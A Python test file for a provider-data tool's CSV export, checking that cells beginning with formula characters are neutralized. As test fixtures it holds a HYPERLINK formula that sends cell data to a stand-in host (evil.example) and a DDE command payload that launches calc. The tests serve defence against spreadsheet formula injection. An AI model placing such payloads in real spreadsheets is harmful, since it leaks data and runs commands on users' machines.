"""Issue 14, item 7: no CSV npistack writes holds a cell a spreadsheet would run as a formula.

Hostile text comes from both sides: the customer's file (cells beginning with ``= + - @``, a tab, a
carriage return) and the registry (an organization named ``=HYPERLINK(...)``). ``npistack enrich``
runs as a user runs it (a subprocess, the real matcher) over a synthetic store holding such names;
its result, review and errors files are read back as a spreadsheet would split them.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest

from npistack.services.enrich.csv_safe import FORMULA_TRIGGERS, SafeCsvWriter, is_plain_number, neutralize
from npistack.services.enrich.rows import NUMERIC_OUTPUT_COLUMNS
from tests.api_support import sample_store
from tests.nppes_files import individual, npi, organization, write_bundle

EVIL_ORG = '=HYPERLINK("http://evil.example/?d="&A2,"Click")'
ORG_A, ORG_B, PERSON = npi(1), npi(2), npi(3)

# What the input's Note column holds, row by row (the rows are matched by NPI or organization).
NOTES = ["=1+2", "+cmd", "-2+3", "@SUM(A1)", "\tx", "\r=cmd", "-5", "a,=cmd|' /C calc'!A0"]


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> str:
    folder = tmp_path_factory.mktemp("csv-injection")
    # CMS quotes every field and doubles the quotes inside one.
    cms_evil = EVIL_ORG.replace('"', '""')
    bundle = write_bundle(
        folder / "bundle",
        [
            organization(1, name=cms_evil),
            organization(2, name=cms_evil),  # same name, same city: an ambiguous match
            individual(3, last="@SUM", first="-JOHN"),
        ],
    )
    return sample_store(folder / "store.db", bundle)


def write_input(path: Path) -> None:
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh, delimiter=";")
        w.writerow(["NPI", "Organization", "City", "State", "Note"])
        w.writerow([ORG_A, "", "", "", NOTES[0]])
        w.writerow(["", EVIL_ORG, "BOSTON", "MA", NOTES[1]])  # ambiguous: both hostile orgs
        w.writerow([PERSON, "", "", "", NOTES[2]])
        for note in NOTES[3:]:
            w.writerow(["", "nobody", "", "", note])
        fh.write("=cmd|' /C calc'!A0;broken\n")  # an unreadable line: its raw text goes to errors


def enrich(store: str, src: Path, out: Path) -> None:
    env = dict(os.environ, NPISTACK_DATABASE_URL=store, COLUMNS="200", NO_COLOR="1")
    proc = subprocess.run(
        [sys.executable, "-m", "npistack.cli", "enrich", str(src), "-o", str(out), "--workers", "0"],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert proc.returncode == 0, proc.stderr


def read_back(path: Path) -> list[list[str]]:
    """The cells as a spreadsheet gets them (Excel/LibreOffice split a CSV as the csv module does)."""
    text = path.read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    # Every cell is quoted: written again with QUOTE_ALL, the rows give back the file's exact text.
    again = io.StringIO(newline="")
    csv.writer(again, delimiter=";", quoting=csv.QUOTE_ALL).writerows(rows)
    assert again.getvalue() == text, f"{path.name}: a cell is not quoted"
    return rows


def runnable_cells(rows: list[list[str]], numeric: set[str]) -> list[tuple[str, str]]:
    """(column, cell) of every cell a spreadsheet would run: one beginning with a formula character,
    except a plain number in one of npistack's own numeric columns."""
    header, *data = rows
    bad = []
    for row in data:
        for name, cell in zip(header, row, strict=True):
            if cell.startswith(FORMULA_TRIGGERS) and not (name in numeric and is_plain_number(cell)):
                bad.append((name, cell))
    return bad


def test_enrich_files_hold_no_runnable_cell(store: str, tmp_path: Path) -> None:
    src, out = tmp_path / "crm.csv", tmp_path / "out.csv"
    write_input(src)
    enrich(store, src, out)

    result = read_back(out)
    numeric = {"nppes_" + c for c in NUMERIC_OUTPUT_COLUMNS}
    assert runnable_cells(result, numeric) == []
    header, *data = result
    by_name = [dict(zip(header, r, strict=True)) for r in data]
    assert len(by_name) == len(NOTES) + 1  # rows in = rows out
    # The input's hostile cells, neutralized: one quote in front, the rest unchanged.
    assert [r["Note"] for r in by_name[: len(NOTES)]] == ["'" + n for n in NOTES[:-1]] + [NOTES[-1]]
    assert by_name[1]["Organization"] == "'" + EVIL_ORG
    # The registry's: the matched organization's and the person's names.
    assert by_name[0]["nppes_match_status"] == "matched" and by_name[0]["nppes_name"] == "'" + EVIL_ORG
    assert by_name[2]["nppes_match_status"] == "matched" and by_name[2]["nppes_name"] == "'-JOHN @SUM"
    # npistack's own numbers stay numbers: a negative longitude, an E.164 phone, the confidence.
    assert float(by_name[0]["nppes_longitude"]) < 0 and by_name[0]["nppes_longitude"].startswith("-")
    assert by_name[0]["nppes_phone"] == "+16175551000"
    assert float(by_name[0]["nppes_match_confidence"]) > 0.9
    assert by_name[-1]["NPI"] == "'=cmd|' /C calc'!A0" and by_name[-1]["nppes_match_status"] == "error"

    review = read_back(tmp_path / "out.review.csv")
    assert runnable_cells(review, {"input_line"} | {f"candidate_{k}_confidence" for k in range(1, 6)}) == []
    header, *data = review
    assert len(data) == 1
    row = dict(zip(header, data[0], strict=True))
    assert {row["candidate_1_npi"], row["candidate_2_npi"]} == {ORG_A, ORG_B}
    assert row["candidate_1_name"] == row["candidate_2_name"] == "'" + EVIL_ORG
    assert row["Note"] == "'+cmd"

    errors = read_back(tmp_path / "out.errors.csv")
    assert runnable_cells(errors, {"input_line"}) == []
    assert errors[1][2] == "'=cmd|' /C calc'!A0;broken"


def test_neutralize_follows_owasp() -> None:
    for trigger in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralize(trigger + "x") == "'" + trigger + "x"
    for harmless in ("", "x=1", "Smith", " =1", "'=1", "1-2"):
        assert neutralize(harmless) == harmless


def test_numeric_columns_keep_plain_numbers_only() -> None:
    buf = io.StringIO(newline="")
    w = SafeCsvWriter(buf, delimiter=",", numeric_columns=[1])
    w.writerow(["-5", "-5"])
    w.writerow(["+12525551234", "+12525551234"])
    w.writerow(["=1+2", "=1+2"])  # a numeric column holding text is neutralized like any other
    w.writerow(["-1e3", "-1e3"])  # not a plain decimal number
    w.writerow([None, 7])
    assert buf.getvalue().splitlines() == [
        '"\'-5","-5"',
        '"\'+12525551234","+12525551234"',
        '"\'=1+2","\'=1+2"',
        '"\'-1e3","\'-1e3"',
        '"","7"',
    ]
